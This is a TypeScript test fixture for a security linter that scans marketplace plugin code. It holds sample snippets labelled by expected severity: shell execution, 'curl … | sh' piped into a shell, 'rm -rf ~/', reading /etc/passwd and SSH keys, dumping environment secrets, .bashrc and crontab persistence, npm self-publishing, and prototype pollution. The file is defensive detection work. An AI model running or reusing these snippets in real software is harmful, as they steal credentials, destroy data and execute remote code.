import { fileCases, mainCases, type RuleCase } from './rule-case.ts';

const command = (body: string): string => `export const commands = { async measure(input) { ${body} } };`;

export const platformCases: readonly RuleCase[] = [
  ...mainCases('process-exec', [
    ['error', `import { execSync } from "node:child_process"; ${command('return execSync("id");')}`],
    ['error', `import * as cp from "child_process"; ${command('return cp.spawn(input.program);')}`],
    ['error', command('return require("child" + "_process").exec("id");')],
    ['error', command('const cp = await import("node:child_process"); return cp.exec("id");')],
    ['error', command('return (await import("child_process")).default.exec("id");')],
    [
      'error',
      command('if (typeof require === "function") return require("child_process").execSync("curl x | sh");'),
    ],
    ['error', command('return process.getBuiltinModule("child_process").execSync("id");')],
    ['error', command('return new Deno.Command("sh");')],
    [
      'error',
      command('return require(Buffer.from("Y2hpbGRfcHJvY2Vzcw==", "base64").toString()).execSync("id");'),
    ],
    [
      'error',
      `import { exec } from "child_process"; import { promisify } from "util"; ${command('return promisify(exec)("id");')}`,
    ],
    [
      'error',
      `import * as cp from "child_process"; const { ["ex" + "ec"]: run } = cp; ${command('return run("id");')}`,
    ],
    [
      'error',
      `class Shell { constructor() { this.cp = require("child_process"); } go(line) { this.cp.exec(line); } } ${command('new Shell().go("id");')}`,
    ],
    [
      'warning',
      command('if (typeof require === "function") return require("child_process").exec(input.line);'),
    ],
    [null, `const child_process = { exec: (x) => x }; ${command('return child_process.exec("id");')}`],
    [null, command('return /a/.exec("a");')],
    [null, `import cp from "node:child_process"; ${command('return 1;')}`],
  ]),
  ...mainCases('file-access', [
    ['error', `import fs from "fs"; ${command('return fs.readFileSync("/etc/passwd", "utf8");')}`],
    ['error', `import { readFile } from "node:fs/promises"; ${command('return readFile(input.path);')}`],
    ['error', `const { promises: files } = require("fs"); ${command('return files.readFile(input.path);')}`],
    [
      'error',
      command(
        'if (typeof require !== "undefined") return require("fs").readFileSync(process.env.HOME + "/.ssh/id_rsa");',
      ),
    ],
    [
      'warning',
      command(
        'if (typeof process !== "undefined" && process.versions) return require("fs").readFileSync(input.path);',
      ),
    ],
    [null, command('const fs = new Map(); fs.readFile = (x) => x; return fs.readFile(input);')],
  ]),
  ...mainCases(
    'file-destruction',
    [
      ['error', `import { rmSync } from "node:fs"; ${command('rmSync(input.path, { recursive: true });')}`],
      ['error', `import { exec } from "child_process"; ${command('exec("rm -rf ~/");')}`],
      ['error', command('indexedDB.deleteDatabase("x");')],
      [null, `import { storage } from "marketplace"; ${command('await storage.delete("x");')}`],
    ],
    { permissions: [{ capability: 'storage', reason: 'Keeps the last measurement.' }] },
  ),
  ...mainCases('file-write', [
    ['error', `import fs from "fs"; ${command('fs.writeFileSync("/tmp/x", "y");')}`],
    ['warning', command('if (typeof require === "function") require("fs").writeFileSync(input.path, "y");')],
    [null, command('return input.writeFileSync;')],
  ]),
  ...mainCases(
    'persistence',
    [
      [
        'error',
        `import fs from "fs"; import os from "os"; ${command('fs.appendFileSync(os.homedir() + "/.bashrc", "x");')}`,
      ],
      [
        'error',
        `import { exec } from "child_process"; ${command('exec("(crontab -l; echo x) | crontab -");')}`,
      ],
      ['error', command('navigator.serviceWorker.register("/sw.js");')],
      [null, `import { storage } from "marketplace"; ${command('await storage.set("autostart", true);')}`],
    ],
    { permissions: [{ capability: 'storage', reason: 'Keeps the last measurement.' }] },
  ),
  ...mainCases('self-propagation', [
    [
      'error',
      `import { execSync } from "child_process"; ${command('execSync("npm publish --access public");')}`,
    ],
    ['error', `import fs from "fs"; ${command('fs.writeFileSync("../other/package.json", input.text);')}`],
    [
      'error',
      `import { network } from "marketplace"; ${command('await network.fetch("https://registry.npmjs.org/x", { method: "PUT", body: input.text });')}`,
    ],
    [null, `import { log } from "marketplace"; ${command('log.info("then run npm publish");')}`],
  ]),
  ...mainCases('host-process', [
    ['error', command('process.exit(1);')],
    ['error', `import { app } from "electron"; ${command('app.quit();')}`],
    ['error', `import os from "node:os"; ${command('return os.userInfo();')}`],
    ['error', `import { Worker } from "node:worker_threads"; ${command('return new Worker(input.file);')}`],
    ['error', command('return process.env.AWS_SECRET_ACCESS_KEY;')],
    ['error', command('return JSON.stringify(process.env);')],
    ['warning', command('return process.env.LANG;')],
    ['warning', command('if (typeof process !== "undefined") process.on("exit", () => {});')],
    [null, command('return process.env.NODE_ENV !== "production";')],
    [null, command('return typeof process === "undefined";')],
    [null, `const process = { exit() {} }; ${command('process.exit();')}`],
  ]),
  ...mainCases('endless-loop', [
    ['error', command('while (true) {}')],
    ['error', command('for (;;) { input.push(1); }')],
    ['error', command('do { input.x += 1; } while (!0);')],
    ['warning', `function next() { throw new Error("end"); } ${command('for (;;) { next(); }')}`],
    [null, command('while (true) { if (input.done) break; }')],
    [
      null,
      'export function* ids() { let id = 0; while (true) yield id++; } export const commands = { measure: () => ids().next() };',
    ],
    [null, command('while (input.length > 0) { input.pop(); }')],
    [
      null,
      `function step(state) { state.done = input > 1; } ${command('const state = { done: false }; while (!state.done) { step(state); }')}`,
    ],
  ]),
  ...mainCases('prototype-write', [
    [
      'error',
      command(
        'let p = input; while (Object.getPrototypeOf(p)) p = Object.getPrototypeOf(p); const set = Reflect.set; set(p, "admin", true);',
      ),
    ],
    [
      'error',
      command('let p = input; for (;;) { const q = 1; p = Reflect.getPrototypeOf(p); p.admin = q; }'),
    ],
    [
      null,
      command(
        'let p = input; const names = []; while (p) { names.push(...Object.keys(p)); p = Object.getPrototypeOf(p); } return names;',
      ),
    ],
    ['error', command('Object.prototype.admin = true;')],
    ['error', command('input.__proto__.admin = true;')],
    ['error', command('input["__proto__"]["admin"] = true;')],
    ['error', command('input.constructor.prototype.admin = true;')],
    ['error', command('Object.defineProperty(Object.prototype, "admin", { value: true });')],
    ['error', command('Object.assign(Object.prototype, input);')],
    ['error', command('Array.prototype.map = () => [];')],
    ['error', command('Object.getPrototypeOf({}).admin = true;')],
    ['error', command('const key = "__proto__"; input[key].admin = true;')],
    ['error', `function set(o, path, v) {} ${command('set(input, "constructor.prototype.admin", true);')}`],
    [
      'notice',
      'if (!Array.prototype.at) { Array.prototype.at = function (i) { return this[i]; }; } export const commands = { measure: () => 1 };',
    ],
    ['notice', command('const extend = (a, b) => { a.__proto__ = b; }; extend(input, {});')],
    [null, `function Shape() {} Shape.prototype.area = function () {}; ${command('return new Shape();')}`],
    [null, command('return Object.prototype.hasOwnProperty.call(input, "x");')],
    [null, command('return { __proto__: null, x: 1 };')],
  ]),
  ...mainCases('prototype-merge', [
    [
      'error',
      `function merge(a, b) { for (const k in b) { if (typeof b[k] === "object") merge(a[k], b[k]); else a[k] = b[k]; } } ${command('merge({}, JSON.parse(\'{"__proto__": {"admin": true}}\'));')}`,
    ],
    [
      'notice',
      `function merge(a, b) { for (const k in b) { if (typeof b[k] === "object") merge(a[k], b[k]); else a[k] = b[k]; } } ${command('merge({}, input);')}`,
    ],
    [
      null,
      `function merge(a, b) { for (const k in b) { if (k === "__proto__") continue; if (typeof b[k] === "object") merge(a[k], b[k]); else a[k] = b[k]; } } ${command('merge({}, input);')}`,
    ],
  ]),
  ...fileCases('json-poisoned-key', [
    ['error', { 'assets/data.json': '{"__proto__": {"admin": true}}' }],
    [null, { 'assets/data.json': '{"proto": {"constructor": "Ferrari"}}' }],
  ]),
  ...fileCases('install-script', [
    ['error', { 'dist/package.json': '{"scripts": {"postinstall": "node steal.js"}}' }],
    ['error', { 'dist/binding.gyp': '{}' }],
    ['warning', { 'dist/package.json': '{"scripts": {"prepare": "husky"}}' }],
    [null, { 'dist/package.json': '{"type": "module"}' }],
  ]),
  ...fileCases('shell-script', [
    ['error', { 'assets/setup.sh': '#!/bin/sh\ncurl https://x.example/i | sh\n' }],
    ['warning', { 'assets/setup.sh': '#!/bin/sh\necho hello\n' }],
    [null, { 'assets/notes.txt': 'curl is a program' }],
  ]),
];
